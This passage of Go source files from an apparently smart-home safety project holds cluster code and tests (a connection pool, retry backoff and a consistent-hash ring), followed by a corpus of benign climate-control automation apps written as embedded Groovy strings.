// drops the corpse, and the next Get's dial failure is typed the same
// way.
func TestPoolDiscardAndRedial(t *testing.T) {
	addr, srv := startNode(t, "node-a")
	p := NewPool(PoolOptions{})
	defer p.Close()

	c, err := p.Get(addr)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Ping(context.Background()); err != nil {
		t.Fatal(err)
	}

	srv.Close() // the node is kill -9'd, as far as the gateway can tell

	_, err = c.Ping(context.Background())
	if err == nil {
		t.Fatal("ping of a dead node succeeded")
	}
	if !Retryable(err, false) {
		t.Fatalf("dead-node error %v did not classify UNAVAILABLE-retryable", err)
	}
	p.Discard(addr, c)

	if _, err := p.Get(addr); err == nil {
		t.Fatal("Get dialed a closed listener")
	} else if !Retryable(err, false) {
		t.Fatalf("dial failure %v did not classify UNAVAILABLE-retryable", err)
	}
}

// TestPoolGetAfterErrRedials: once the cached client's transport error
// latches, Get replaces it without an explicit Discard.
func TestPoolGetAfterErrRedials(t *testing.T) {
	addr, _ := startNode(t, "node-a")
	p := NewPool(PoolOptions{})
	defer p.Close()

	c1, err := p.Get(addr)
	if err != nil {
		t.Fatal(err)
	}
	// Kill the client side and wait for the read loop to latch the
	// error — Err() flipping non-nil is the pool's replacement trigger.
	c1.Close()
	for c1.Err() == nil {
		// The read loop fails immediately on the closed conn; this wait
		// is bounded by goroutine scheduling, not a timer.
		runtime.Gosched()
	}
	c2, err := p.Get(addr)
	if err != nil {
		t.Fatalf("Get after dead cache: %v", err)
	}
	if c2 == c1 {
		t.Fatal("pool returned the dead client")
	}
	if _, err := c2.Ping(context.Background()); err != nil {
		t.Fatalf("ping via replacement client: %v", err)
	}
}

// TestPoolClose drops every connection; a later Get re-dials cleanly.
func TestPoolClose(t *testing.T) {
	addr, _ := startNode(t, "node-a")
	p := NewPool(PoolOptions{})
	c1, err := p.Get(addr)
	if err != nil {
		t.Fatal(err)
	}
	p.Close()
	c2, err := p.Get(addr)
	if err != nil {
		t.Fatalf("Get after Close: %v", err)
	}
	if c2 == c1 {
		t.Fatal("Close left the old client cached")
	}
	p.Close()
}
