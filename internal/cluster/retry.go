package cluster

import (
	"context"
	"errors"
	"math/rand"
	"time"

	"homeguard/internal/api"
)

// Retry policy defaults. The budget bounds TOTAL backoff sleep per
// request, so a request can never stall longer than roughly its own
// deadline worth of retries no matter how many attempts remain.
const (
	DefaultAttempts  = 4
	DefaultBaseDelay = 25 * time.Millisecond
	DefaultMaxDelay  = 1 * time.Second
	DefaultBudget    = 2 * time.Second
)

// Retryable reports whether an error may be retried against another
// (or the same) node. Only typed api.Error envelopes are classified:
//
//   - UNAVAILABLE is always safe: it is produced by dial failures,
//     connection loss on SEND, and open breakers — all before the
//     operation could have been applied, or on operations (install,
//     adopt) whose replay the service answers with ALREADY_EXISTS
//     rather than double-applying.
//   - DEADLINE_EXCEEDED is safe only for reads: a timed-out mutation
//     may have been applied after the client gave up on it.
//
// Everything else — including raw non-api errors, whose provenance is
// unknown — is terminal for the request.
func Retryable(err error, readOnly bool) bool {
	var ae *api.Error
	if !errors.As(err, &ae) {
		return false
	}
	switch ae.Code {
	case api.CodeUnavailable:
		return true
	case api.CodeDeadlineExceeded:
		return readOnly
	}
	return false
}

// RetryAfterHint extracts a server backpressure hint (an open breaker's
// RetryAfterMs) from an error chain, or zero.
func RetryAfterHint(err error) time.Duration {
	var ae *api.Error
	if errors.As(err, &ae) && ae.RetryAfterMs > 0 {
		return time.Duration(ae.RetryAfterMs) * time.Millisecond
	}
	return 0
}

// RetryOptions configures a Retryer.
type RetryOptions struct {
	// Attempts is the total number of tries including the first.
	// Zero means DefaultAttempts.
	Attempts int

	// BaseDelay/MaxDelay shape the exponential backoff: attempt k (from
	// zero) backs off a jittered BaseDelay<<k, capped at MaxDelay.
	BaseDelay time.Duration
	MaxDelay  time.Duration

	// Budget caps the SUM of backoff sleeps for one request. When the
	// next delay would blow it, the retryer gives up and returns the
	// last error. Zero means DefaultBudget.
	Budget time.Duration

	// Rand substitutes the jitter source in tests ([0,1) like
	// rand.Float64).
	Rand func() float64

	// Sleep substitutes the delay in tests. It must honor ctx
	// cancellation. Nil means a timer-based sleep.
	Sleep func(ctx context.Context, d time.Duration) error
}

// Retryer re-runs idempotent-safe failures with jittered exponential
// backoff. Safe for concurrent use (the zero-value options fields are
// resolved at construction).
type Retryer struct {
	opts RetryOptions
}

// NewRetryer builds a retryer, filling defaults.
func NewRetryer(opts RetryOptions) *Retryer {
	if opts.Attempts <= 0 {
		opts.Attempts = DefaultAttempts
	}
	if opts.BaseDelay <= 0 {
		opts.BaseDelay = DefaultBaseDelay
	}
	if opts.MaxDelay <= 0 {
		opts.MaxDelay = DefaultMaxDelay
	}
	if opts.Budget <= 0 {
		opts.Budget = DefaultBudget
	}
	if opts.Rand == nil {
		opts.Rand = rand.Float64
	}
	if opts.Sleep == nil {
		opts.Sleep = sleepCtx
	}
	return &Retryer{opts: opts}
}

func sleepCtx(ctx context.Context, d time.Duration) error {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Delay computes the backoff before retry number `retry` (1-based: the
// wait after the first failure is Delay(1, ...)). The jittered window
// is [backoff/2, backoff) — "equal jitter", which decorrelates a
// thundering herd while keeping a floor so a hot loop cannot collapse
// to zero wait. A server hint raises (never lowers) the result.
func (r *Retryer) Delay(retry int, hint time.Duration) time.Duration {
	backoff := r.opts.BaseDelay << (retry - 1)
	if backoff > r.opts.MaxDelay || backoff <= 0 { // <=0: shift overflow
		backoff = r.opts.MaxDelay
	}
	d := backoff/2 + time.Duration(r.opts.Rand()*float64(backoff/2))
	if hint > d {
		d = hint
	}
	return d
}

// Do runs f until it succeeds, fails terminally, or the attempt/budget
// limits are spent. readOnly widens the retryable set (see Retryable).
// It reports how many retries were performed (0 = first try succeeded
// or failed terminally) alongside f's final error.
func (r *Retryer) Do(ctx context.Context, readOnly bool, f func(attempt int) error) (retries int, err error) {
	var slept time.Duration
	for attempt := 0; ; attempt++ {
		err = f(attempt)
		if err == nil || !Retryable(err, readOnly) {
			return attempt, err
		}
		if attempt+1 >= r.opts.Attempts {
			return attempt, err
		}
		d := r.Delay(attempt+1, RetryAfterHint(err))
		if slept+d > r.opts.Budget {
			return attempt, err // next wait would blow the request's budget
		}
		slept += d
		if serr := r.opts.Sleep(ctx, d); serr != nil {
			return attempt, err // cancelled mid-backoff: surface f's error
		}
	}
}
