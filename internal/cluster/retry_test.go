package cluster

import (
	"context"
	"errors"
	"fmt"
	"testing"
	"time"

	"homeguard/internal/api"
)

func unavailable() error {
	return api.Errorf(api.CodeUnavailable, "node down")
}

// TestRetryableClassification pins the idempotent-safety table:
// UNAVAILABLE always retries, DEADLINE_EXCEEDED only for reads,
// everything else — including untyped errors — is terminal.
func TestRetryableClassification(t *testing.T) {
	cases := []struct {
		err        error
		read, want bool
	}{
		{api.Errorf(api.CodeUnavailable, "x"), false, true},
		{api.Errorf(api.CodeUnavailable, "x"), true, true},
		// Wrapped UNAVAILABLE (the transport wraps net errors) still classifies.
		{fmt.Errorf("call: %w", api.Wrap(api.CodeUnavailable, errors.New("reset"), "rpc")), false, true},
		{api.Errorf(api.CodeDeadlineExceeded, "x"), true, true},
		{api.Errorf(api.CodeDeadlineExceeded, "x"), false, false}, // timed-out write may have applied
		{api.Errorf(api.CodeAlreadyExists, "x"), true, false},
		{api.Errorf(api.CodeNotFound, "x"), true, false},
		{api.Errorf(api.CodeInternal, "x"), true, false},
		{errors.New("raw transport goop"), true, false},
		{nil, true, false},
	}
	for i, c := range cases {
		if got := Retryable(c.err, c.read); got != c.want {
			t.Errorf("case %d: Retryable(%v, read=%v) = %v, want %v", i, c.err, c.read, got, c.want)
		}
	}
}

// retryHarness wires a Retryer to a recording fake sleeper: tests
// assert on exact delays, never on wall time.
type retryHarness struct {
	slept []time.Duration
}

func (h *retryHarness) sleep(ctx context.Context, d time.Duration) error {
	h.slept = append(h.slept, d)
	return ctx.Err()
}

// TestRetryBackoffJitterBounds: with Rand pinned to its extremes, every
// delay for retry k must land in [base<<k-1 / 2, base<<k-1), capped at
// MaxDelay — the equal-jitter window.
func TestRetryBackoffJitterBounds(t *testing.T) {
	base, max := 40*time.Millisecond, 200*time.Millisecond
	for _, rnd := range []float64{0, 0.5, 0.999} {
		r := NewRetryer(RetryOptions{
			Attempts: 6, BaseDelay: base, MaxDelay: max, Budget: time.Hour,
			Rand: func() float64 { return rnd },
		})
		for retry := 1; retry <= 5; retry++ {
			backoff := base << (retry - 1)
			if backoff > max {
				backoff = max
			}
			d := r.Delay(retry, 0)
			if d < backoff/2 || d >= backoff {
				t.Fatalf("rand=%.3f retry=%d: delay %v outside [%v, %v)", rnd, retry, d, backoff/2, backoff)
			}
		}
	}
	// Shift overflow on an absurd retry count still caps at MaxDelay.
	r := NewRetryer(RetryOptions{BaseDelay: base, MaxDelay: max, Rand: func() float64 { return 0 }})
	if d := r.Delay(70, 0); d != max/2 {
		t.Fatalf("overflowed retry delay %v, want capped %v", d, max/2)
	}
}

// TestRetryHonorsRetryAfterHint: a server RetryAfterMs (an open
// breaker's cooldown) raises the computed backoff, never lowers it.
func TestRetryHonorsRetryAfterHint(t *testing.T) {
	r := NewRetryer(RetryOptions{
		BaseDelay: 10 * time.Millisecond, MaxDelay: time.Second,
		Rand: func() float64 { return 0 },
	})
	hint := 300 * time.Millisecond
	if d := r.Delay(1, hint); d != hint {
		t.Fatalf("delay %v ignored larger hint %v", d, hint)
	}
	if d := r.Delay(1, time.Microsecond); d != 5*time.Millisecond {
		t.Fatalf("tiny hint lowered the backoff floor: %v", d)
	}

	h := &retryHarness{}
	rr := NewRetryer(RetryOptions{
		Attempts: 2, BaseDelay: 10 * time.Millisecond, MaxDelay: time.Second,
		Budget: time.Hour, Rand: func() float64 { return 0 }, Sleep: h.sleep,
	})
	err := &api.Error{Code: api.CodeUnavailable, Message: "breaker open", RetryAfterMs: 250}
	retries, _ := rr.Do(context.Background(), false, func(int) error { return err })
	if retries != 1 || len(h.slept) != 1 || h.slept[0] != 250*time.Millisecond {
		t.Fatalf("retries=%d slept=%v, want one 250ms wait from the wire hint", retries, h.slept)
	}
}

// TestRetryDoSucceedsAfterFailures: transient UNAVAILABLEs burn
// retries, then a success returns with the retry count intact.
func TestRetryDoSucceedsAfterFailures(t *testing.T) {
	h := &retryHarness{}
	r := NewRetryer(RetryOptions{
		Attempts: 4, BaseDelay: 10 * time.Millisecond,
		Rand: func() float64 { return 0.5 }, Sleep: h.sleep,
	})
	calls := 0
	retries, err := r.Do(context.Background(), false, func(attempt int) error {
		if attempt != calls {
			t.Fatalf("attempt %d delivered as %d", calls, attempt)
		}
		calls++
		if calls < 3 {
			return unavailable()
		}
		return nil
	})
	if err != nil || retries != 2 || calls != 3 {
		t.Fatalf("retries=%d calls=%d err=%v, want 2 retries then success", retries, calls, err)
	}
	if len(h.slept) != 2 {
		t.Fatalf("slept %v, want two backoffs", h.slept)
	}
	if h.slept[1] <= h.slept[0] {
		t.Fatalf("backoff not growing: %v", h.slept)
	}
}

// TestRetryAttemptsExhausted: the last error comes back after Attempts
// tries, with Attempts-1 sleeps.
func TestRetryAttemptsExhausted(t *testing.T) {
	h := &retryHarness{}
	r := NewRetryer(RetryOptions{
		Attempts: 3, BaseDelay: 5 * time.Millisecond,
		Rand: func() float64 { return 0 }, Sleep: h.sleep,
	})
	calls := 0
	retries, err := r.Do(context.Background(), false, func(int) error { calls++; return unavailable() })
	if calls != 3 || retries != 2 {
		t.Fatalf("calls=%d retries=%d, want 3/2", calls, retries)
	}
	if !Retryable(err, false) {
		t.Fatalf("final error lost its classification: %v", err)
	}
	if len(h.slept) != 2 {
		t.Fatalf("slept %v, want 2 waits", h.slept)
	}
}

// TestRetryBudgetExhaustion: when cumulative backoff would blow the
// per-request budget, the retryer stops early — attempts remaining or
// not.
func TestRetryBudgetExhaustion(t *testing.T) {
	h := &retryHarness{}
	r := NewRetryer(RetryOptions{
		Attempts: 100, BaseDelay: 40 * time.Millisecond, MaxDelay: 40 * time.Millisecond,
		Budget: 100 * time.Millisecond, // fits two 40ms waits, not three
		Rand:   func() float64 { return 0.999999 },
		Sleep:  h.sleep,
	})
	calls := 0
	retries, err := r.Do(context.Background(), false, func(int) error { calls++; return unavailable() })
	if err == nil {
		t.Fatal("budget exhaustion returned success")
	}
	if calls != 3 || retries != 2 || len(h.slept) != 2 {
		t.Fatalf("calls=%d retries=%d slept=%v, want 3 calls / 2 waits under a 100ms budget", calls, retries, h.slept)
	}
	var total time.Duration
	for _, d := range h.slept {
		total += d
	}
	if total > 100*time.Millisecond {
		t.Fatalf("slept %v total, past the budget", total)
	}
}

// TestRetryTerminalErrorNoRetry: non-retryable codes return immediately
// with zero sleeps.
func TestRetryTerminalErrorNoRetry(t *testing.T) {
	h := &retryHarness{}
	r := NewRetryer(RetryOptions{Attempts: 5, Sleep: h.sleep})
	calls := 0
	retries, err := r.Do(context.Background(), true, func(int) error {
		calls++
		return api.Errorf(api.CodeNotFound, "no such home")
	})
	if calls != 1 || retries != 0 || len(h.slept) != 0 {
		t.Fatalf("calls=%d retries=%d slept=%v, want immediate return", calls, retries, h.slept)
	}
	if codeOf(t, err) != api.CodeNotFound {
		t.Fatalf("err = %v", err)
	}
}

// TestRetryDeadlineExceededReadsOnly: the same DEADLINE_EXCEEDED error
// retries as a read and returns immediately as a write.
func TestRetryDeadlineExceededReadsOnly(t *testing.T) {
	mk := func() *Retryer {
		return NewRetryer(RetryOptions{
			Attempts: 2, BaseDelay: time.Millisecond,
			Rand: func() float64 { return 0 }, Sleep: (&retryHarness{}).sleep,
		})
	}
	timeout := func(int) error { return api.Errorf(api.CodeDeadlineExceeded, "slow node") }
	if retries, _ := mk().Do(context.Background(), true, timeout); retries != 1 {
		t.Fatalf("read: %d retries, want 1", retries)
	}
	if retries, _ := mk().Do(context.Background(), false, timeout); retries != 0 {
		t.Fatalf("write: %d retries, want 0", retries)
	}
}

// TestRetryCancelledContext: a cancelled context aborts mid-backoff and
// surfaces the call's error, not a new one.
func TestRetryCancelledContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	h := &retryHarness{}
	r := NewRetryer(RetryOptions{
		Attempts: 10, BaseDelay: time.Millisecond,
		Rand: func() float64 { return 0 }, Sleep: h.sleep,
	})
	calls := 0
	retries, err := r.Do(ctx, false, func(int) error {
		calls++
		if calls == 2 {
			cancel() // the next sleep observes ctx.Err() via the fake sleeper
		}
		return unavailable()
	})
	if calls != 2 || retries != 1 {
		t.Fatalf("calls=%d retries=%d, want cancellation after the second call", calls, retries)
	}
	if codeOf(t, err) != api.CodeUnavailable {
		t.Fatalf("surfaced %v, want the call's UNAVAILABLE", err)
	}
}

func codeOf(t *testing.T, err error) api.Code {
	t.Helper()
	var ae *api.Error
	if !errors.As(err, &ae) {
		t.Fatalf("error %v (%T) is not the api envelope", err, err)
	}
	return ae.Code
}
