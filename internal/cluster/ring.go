// Package cluster holds the building blocks for running HomeGuard as a
// small fleet of nodes behind a stateless gateway: a consistent-hash
// ring mapping homes to nodes, a ping-driven health tracker that
// declares a node down after K consecutive missed heartbeats and back
// up after one successful probe, a retry policy (jittered exponential
// backoff, honoring server RetryAfterMs hints, bounded by a per-request
// budget, applied only to idempotent-safe codes), and a pool of RPC
// clients keyed by node address.
//
// The ring is immutable: membership changes build a new Ring with a new
// Version. Failover does NOT rebuild the ring — the gateway routes
// around dead nodes with OwnerExcluding, so home placement snaps back
// the moment the node recovers and no state sloshes on a flap.
package cluster

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"sort"
	"strconv"
	"strings"
)

// DefaultVirtualNodes is the per-node vnode count when RingOptions
// leaves it zero. 64 points per node keeps the max/min home-count skew
// across nodes under ~2x for small fleets, at 8 bytes a point.
const DefaultVirtualNodes = 64

// Node is one fleet member: a stable identity (the daemon's -node-id)
// plus its RPC address.
type Node struct {
	ID   string `json:"id"`
	Addr string `json:"addr"`
}

// Ring is an immutable consistent-hash ring over a fleet membership.
// Safe for concurrent use.
type Ring struct {
	nodes   []Node  // sorted by ID
	points  []point // sorted by hash
	version string
}

// point is one vnode position: a hash on the circle and the index of
// the node that owns the arc ending there.
type point struct {
	hash uint64
	node int
}

// NewRing builds a ring over the given membership. Node IDs and
// addresses must be non-empty and IDs unique; vnodes <= 0 means
// DefaultVirtualNodes.
func NewRing(nodes []Node, vnodes int) (*Ring, error) {
	if len(nodes) == 0 {
		return nil, fmt.Errorf("cluster: ring needs at least one node")
	}
	if vnodes <= 0 {
		vnodes = DefaultVirtualNodes
	}
	sorted := append([]Node(nil), nodes...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].ID < sorted[j].ID })
	for i, n := range sorted {
		if n.ID == "" || n.Addr == "" {
			return nil, fmt.Errorf("cluster: node %d has empty id or addr", i)
		}
		if i > 0 && sorted[i-1].ID == n.ID {
			return nil, fmt.Errorf("cluster: duplicate node id %q", n.ID)
		}
	}
	r := &Ring{
		nodes:   sorted,
		points:  make([]point, 0, len(sorted)*vnodes),
		version: membershipVersion(sorted, vnodes),
	}
	for i, n := range sorted {
		for v := 0; v < vnodes; v++ {
			r.points = append(r.points, point{
				hash: hash64("node:" + n.ID + "#" + strconv.Itoa(v)),
				node: i,
			})
		}
	}
	sort.Slice(r.points, func(i, j int) bool { return r.points[i].hash < r.points[j].hash })
	return r, nil
}

// hash64 is the ring's point hash: the first 8 bytes of SHA-256. A
// cryptographic hash costs nothing at ring-build/lookup rates and its
// uniformity is what keeps vnode placement balanced.
func hash64(s string) uint64 {
	sum := sha256.Sum256([]byte(s))
	return binary.BigEndian.Uint64(sum[:8])
}

// membershipVersion derives the ring version from the sorted
// membership and vnode count: two gateways configured with the same
// fleet compute the same version with no coordination.
func membershipVersion(nodes []Node, vnodes int) string {
	var b strings.Builder
	fmt.Fprintf(&b, "v1/%d\n", vnodes)
	for _, n := range nodes {
		b.WriteString(n.ID)
		b.WriteByte('@')
		b.WriteString(n.Addr)
		b.WriteByte('\n')
	}
	sum := sha256.Sum256([]byte(b.String()))
	return "r" + hex.EncodeToString(sum[:6])
}

// Version identifies the membership; it changes iff the node set,
// addresses, or vnode count change.
func (r *Ring) Version() string { return r.version }

// VersionHash is a numeric form of the version for gauge export.
func (r *Ring) VersionHash() uint32 {
	sum := sha256.Sum256([]byte(r.version))
	return binary.BigEndian.Uint32(sum[:4])
}

// Nodes returns the membership sorted by ID (a copy).
func (r *Ring) Nodes() []Node { return append([]Node(nil), r.nodes...) }

// NumNodes reports the membership size.
func (r *Ring) NumNodes() int { return len(r.nodes) }

// NodeByID resolves a member by identity.
func (r *Ring) NodeByID(id string) (Node, bool) {
	for _, n := range r.nodes {
		if n.ID == id {
			return n, true
		}
	}
	return Node{}, false
}

// Owner maps a home to the node whose arc its hash lands on: the first
// point clockwise from the home's hash.
func (r *Ring) Owner(homeID string) Node {
	return r.nodes[r.points[r.ownerIdx(homeID)].node]
}

func (r *Ring) ownerIdx(homeID string) int {
	h := hash64("home:" + homeID)
	i := sort.Search(len(r.points), func(i int) bool { return r.points[i].hash >= h })
	if i == len(r.points) {
		i = 0 // wrap past the last point
	}
	return i
}

// OwnerExcluding maps a home to its owner, skipping nodes for which
// down returns true: it walks the ring clockwise from the home's point
// and returns the first live node, so every gateway agrees on the
// failover target without coordinating. ok is false when every node is
// down.
func (r *Ring) OwnerExcluding(homeID string, down func(nodeID string) bool) (n Node, ok bool) {
	start := r.ownerIdx(homeID)
	seen := make(map[int]bool, len(r.nodes))
	for i := 0; i < len(r.points) && len(seen) < len(r.nodes); i++ {
		p := r.points[(start+i)%len(r.points)]
		if seen[p.node] {
			continue
		}
		seen[p.node] = true
		if cand := r.nodes[p.node]; down == nil || !down(cand.ID) {
			return cand, true
		}
	}
	return Node{}, false
}
