package cluster

import (
	"fmt"
	"testing"
)

func mustRing(t *testing.T, nodes []Node, vnodes int) *Ring {
	t.Helper()
	r, err := NewRing(nodes, vnodes)
	if err != nil {
		t.Fatalf("NewRing: %v", err)
	}
	return r
}

func threeNodes() []Node {
	return []Node{
		{ID: "node-a", Addr: "127.0.0.1:9401"},
		{ID: "node-b", Addr: "127.0.0.1:9402"},
		{ID: "node-c", Addr: "127.0.0.1:9403"},
	}
}

func TestRingValidation(t *testing.T) {
	if _, err := NewRing(nil, 0); err == nil {
		t.Fatal("empty membership accepted")
	}
	if _, err := NewRing([]Node{{ID: "a"}}, 0); err == nil {
		t.Fatal("empty addr accepted")
	}
	if _, err := NewRing([]Node{
		{ID: "a", Addr: "x:1"}, {ID: "a", Addr: "x:2"},
	}, 0); err == nil {
		t.Fatal("duplicate node id accepted")
	}
}

// TestRingDeterministic: ownership is a pure function of membership —
// two rings built from the same nodes (in any order) agree on every
// home, which is what lets gateway replicas route without coordinating.
func TestRingDeterministic(t *testing.T) {
	r1 := mustRing(t, threeNodes(), 0)
	shuffled := []Node{threeNodes()[2], threeNodes()[0], threeNodes()[1]}
	r2 := mustRing(t, shuffled, 0)
	if r1.Version() != r2.Version() {
		t.Fatalf("same membership, versions %q vs %q", r1.Version(), r2.Version())
	}
	for i := 0; i < 500; i++ {
		h := fmt.Sprintf("home-%04d", i)
		if a, b := r1.Owner(h).ID, r2.Owner(h).ID; a != b {
			t.Fatalf("home %s: owner %s vs %s across identical rings", h, a, b)
		}
	}
}

func TestRingVersionTracksMembership(t *testing.T) {
	base := mustRing(t, threeNodes(), 0)
	grown := mustRing(t, append(threeNodes(), Node{ID: "node-d", Addr: "127.0.0.1:9404"}), 0)
	if base.Version() == grown.Version() {
		t.Fatal("version unchanged after adding a node")
	}
	moved := threeNodes()
	moved[1].Addr = "127.0.0.1:9999"
	if mustRing(t, moved, 0).Version() == base.Version() {
		t.Fatal("version unchanged after an address change")
	}
	if mustRing(t, threeNodes(), 32).Version() == base.Version() {
		t.Fatal("version unchanged after a vnode-count change")
	}
}

// TestRingBalance: with vnodes at the default, no node owns a wildly
// disproportionate share of homes.
func TestRingBalance(t *testing.T) {
	r := mustRing(t, threeNodes(), 0)
	counts := map[string]int{}
	const homes = 3000
	for i := 0; i < homes; i++ {
		counts[r.Owner(fmt.Sprintf("home-%05d", i)).ID]++
	}
	for id, c := range counts {
		// Fair share is 1000; accept 2x skew either way. A broken hash
		// (all homes on one node) fails decisively.
		if c < homes/3/2 || c > homes/3*2 {
			t.Fatalf("node %s owns %d of %d homes: ring is unbalanced (%v)", id, c, homes, counts)
		}
	}
	if len(counts) != 3 {
		t.Fatalf("only %d nodes own homes: %v", len(counts), counts)
	}
}

// TestRingFailoverLocality: excluding a dead node moves ONLY its homes;
// every home owned by a surviving node keeps its owner. This is the
// consistent-hash property the failover design leans on — a node death
// must not reshuffle the whole fleet.
func TestRingFailoverLocality(t *testing.T) {
	r := mustRing(t, threeNodes(), 0)
	dead := "node-b"
	isDead := func(id string) bool { return id == dead }
	moved := 0
	for i := 0; i < 2000; i++ {
		h := fmt.Sprintf("home-%05d", i)
		before := r.Owner(h)
		after, ok := r.OwnerExcluding(h, isDead)
		if !ok {
			t.Fatalf("home %s: no live owner with one node down", h)
		}
		if after.ID == dead {
			t.Fatalf("home %s: failover target is the dead node", h)
		}
		if before.ID != dead {
			if after.ID != before.ID {
				t.Fatalf("home %s: owned by live %s but failover moved it to %s", h, before.ID, after.ID)
			}
		} else {
			moved++
		}
	}
	if moved == 0 {
		t.Fatal("dead node owned zero homes; balance test should have caught this")
	}
}

func TestRingOwnerExcludingAllDown(t *testing.T) {
	r := mustRing(t, threeNodes(), 0)
	if _, ok := r.OwnerExcluding("home-1", func(string) bool { return true }); ok {
		t.Fatal("OwnerExcluding found an owner with every node down")
	}
	// nil down predicate = plain Owner.
	n, ok := r.OwnerExcluding("home-1", nil)
	if !ok || n.ID != r.Owner("home-1").ID {
		t.Fatalf("nil-predicate OwnerExcluding %v/%v, want plain owner", n, ok)
	}
}

func TestRingNodeByID(t *testing.T) {
	r := mustRing(t, threeNodes(), 0)
	n, ok := r.NodeByID("node-b")
	if !ok || n.Addr != "127.0.0.1:9402" {
		t.Fatalf("NodeByID(node-b) = %v, %v", n, ok)
	}
	if _, ok := r.NodeByID("node-zz"); ok {
		t.Fatal("NodeByID found an unknown node")
	}
}
