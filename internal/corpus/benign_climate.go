package corpus

// Climate-control apps. It'sTooHot is named in Sec. VIII-B (Self
// Disabling with EnergySaver).

func init() {
	registerAll(Benign, map[string]string{
		"ItsTooHot": `
definition(name: "ItsTooHot", namespace: "store", author: "community",
    description: "Turn on the air conditioner switch when the temperature rises above your comfort threshold.",
    category: "Climate Control")
input "tSensor", "capability.temperatureMeasurement"
input "ac1", "capability.switch", title: "Air conditioner switch"
input "hot", "number", title: "Too hot above", defaultValue: 80
def installed() { subscribe(tSensor, "temperature", onTemp) }
def updated() { unsubscribe(); subscribe(tSensor, "temperature", onTemp) }
def onTemp(evt) {
    if (evt.doubleValue > hot) {
        ac1.on()
    }
}
`,
		"ItsTooCold": `
definition(name: "ItsTooCold", namespace: "store", author: "community",
    description: "Turn on the space heater when the temperature falls below your threshold.",
    category: "Climate Control")
input "tSensor", "capability.temperatureMeasurement"
input "heater1", "capability.switch", title: "Space heater"
input "cold", "number", title: "Too cold below", defaultValue: 60
def installed() { subscribe(tSensor, "temperature", onTemp) }
def updated() { unsubscribe(); subscribe(tSensor, "temperature", onTemp) }
def onTemp(evt) {
    if (evt.doubleValue < cold) {
        heater1.on()
    } else {
        heater1.off()
    }
}
`,
		"ThermostatModeSwitcher": `
definition(name: "ThermostatModeSwitcher", namespace: "store", author: "community",
    description: "Set back the thermostat heating setpoint when the home goes into Away mode.",
    category: "Green Living")
input "thermostat1", "capability.thermostat"
input "awayHeat", "number", title: "Away heating setpoint", defaultValue: 60
input "homeHeat", "number", title: "Home heating setpoint", defaultValue: 70
def installed() { subscribe(location, "mode", onMode) }
def updated() { unsubscribe(); subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value == "Away") {
        thermostat1.setHeatingSetpoint(awayHeat)
    } else if (evt.value == "Home") {
        thermostat1.setHeatingSetpoint(homeHeat)
    }
}
`,
		"WindowFanVentilation": `
definition(name: "WindowFanVentilation", namespace: "store", author: "community",
    description: "Run the window fan when the room is hotter than the target and the window is open.",
    category: "Climate Control")
input "tSensor", "capability.temperatureMeasurement"
input "window1", "capability.contactSensor", title: "Window contact"
input "fan1", "capability.switch", title: "Window fan"
input "target", "number", defaultValue: 74
def installed() { subscribe(tSensor, "temperature", onTemp) }
def updated() { unsubscribe(); subscribe(tSensor, "temperature", onTemp) }
def onTemp(evt) {
    if (evt.doubleValue > target && window1.currentContact == "open") {
        fan1.on()
    } else {
        fan1.off()
    }
}
`,
		"HumidityFan": `
definition(name: "HumidityFan", namespace: "store", author: "community",
    description: "Run the bathroom fan when humidity rises above a threshold and stop it when it drops.",
    category: "Climate Control")
input "humSensor", "capability.relativeHumidityMeasurement"
input "fan1", "capability.switch", title: "Bathroom fan"
input "maxHum", "number", defaultValue: 65
def installed() { subscribe(humSensor, "humidity", onHumidity) }
def updated() { unsubscribe(); subscribe(humSensor, "humidity", onHumidity) }
def onHumidity(evt) {
    if (evt.integerValue > maxHum) {
        fan1.on()
    } else if (evt.integerValue < maxHum - 10) {
        fan1.off()
    }
}
`,
		"DryTheAir": `
definition(name: "DryTheAir", namespace: "store", author: "community",
    description: "Run the dehumidifier while humidity stays above your comfort level.",
    category: "Climate Control")
input "humSensor", "capability.relativeHumidityMeasurement"
input "dehumidifier1", "capability.switch", title: "Dehumidifier"
input "comfort", "number", defaultValue: 55
def installed() { subscribe(humSensor, "humidity", onHumidity) }
def updated() { unsubscribe(); subscribe(humSensor, "humidity", onHumidity) }
def onHumidity(evt) {
    if (evt.integerValue > comfort) {
        dehumidifier1.on()
    } else {
        dehumidifier1.off()
    }
}
`,
		"HumidifyWinterAir": `
definition(name: "HumidifyWinterAir", namespace: "store", author: "community",
    description: "Run the humidifier when the air is too dry while the heater is running.",
    category: "Climate Control")
input "humSensor", "capability.relativeHumidityMeasurement"
input "heater1", "capability.switch", title: "Heater"
input "humidifier1", "capability.switch", title: "Humidifier"
input "dry", "number", defaultValue: 30
def installed() { subscribe(humSensor, "humidity", onHumidity) }
def updated() { unsubscribe(); subscribe(humSensor, "humidity", onHumidity) }
def onHumidity(evt) {
    if (evt.integerValue < dry && heater1.currentSwitch == "on") {
        humidifier1.on()
    }
}
`,
		"FreshAirWindow": `
definition(name: "FreshAirWindow", namespace: "store", author: "community",
    description: "Open the window opener when carbon dioxide builds up indoors.",
    category: "Health & Wellness")
input "co2Sensor", "capability.carbonDioxideMeasurement"
input "window1", "capability.switch", title: "Window opener"
input "maxCO2", "number", defaultValue: 1000
def installed() { subscribe(co2Sensor, "carbonDioxide", onCO2) }
def updated() { unsubscribe(); subscribe(co2Sensor, "carbonDioxide", onCO2) }
def onCO2(evt) {
    if (evt.integerValue > maxCO2) {
        window1.on()
    }
}
`,
		"RainCloseWindow": `
definition(name: "RainCloseWindow", namespace: "store", author: "community",
    description: "Close the window opener when the leak sensor on the sill gets wet.",
    category: "Safety & Security")
input "rainSensor", "capability.waterSensor", title: "Sill leak sensor"
input "window1", "capability.switch", title: "Window opener"
def installed() { subscribe(rainSensor, "water.wet", onRain) }
def updated() { unsubscribe(); subscribe(rainSensor, "water.wet", onRain) }
def onRain(evt) {
    window1.off()
}
`,
		"KeepMeCozy": `
definition(name: "KeepMeCozy", namespace: "store", author: "community",
    description: "Set the thermostat to heat whenever a remote temperature sensor reads below the setpoint.",
    category: "Climate Control")
input "tSensor", "capability.temperatureMeasurement", title: "Remote sensor"
input "thermostat1", "capability.thermostat"
